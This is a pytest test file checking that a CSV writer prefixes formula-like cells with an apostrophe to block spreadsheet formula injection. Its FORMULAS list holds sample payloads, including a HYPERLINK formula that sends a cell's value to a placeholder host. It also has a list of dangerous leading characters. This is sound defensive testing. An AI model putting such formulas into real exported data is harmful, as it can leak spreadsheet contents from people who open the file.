import csv
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from manifests.tables.csv_text import write_csv

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", '=HYPERLINK("http://x/?"&A1,"a")', "--"]


def written(texts: list[str | None], folder: Path) -> list[str]:
    path = folder / "table.csv"
    table = pa.table({"text": pa.array(texts, pa.string()), "number": pa.array([-1] * len(texts), pa.int64())})
    write_csv(path, table)
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["text", "number"]
    assert all(number == "-1" for _, number in rows)
    return [text for text, _ in rows]


@pytest.mark.attack
@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str, tmp_path: Path) -> None:
    assert written([text], tmp_path) == [f"'{text}"]


def test_other_texts_stay_as_they_are(tmp_path: Path) -> None:
    texts = ["org/name", "a=b", "", 'a "quoted", text', "two\nlines", "'"]
    assert written([*texts, None], tmp_path) == [*texts, ""]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@\t\r\n\"',"))))
def test_no_cell_is_a_formula_and_no_text_is_lost(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    for text, cell in zip(texts, written([*texts], tmp_path_factory.mktemp("csv")), strict=True):
        assert cell[:1] not in tuple("=+-@\t\r\n＝＋－＠")
        assert cell.removeprefix("'") == text or cell == text
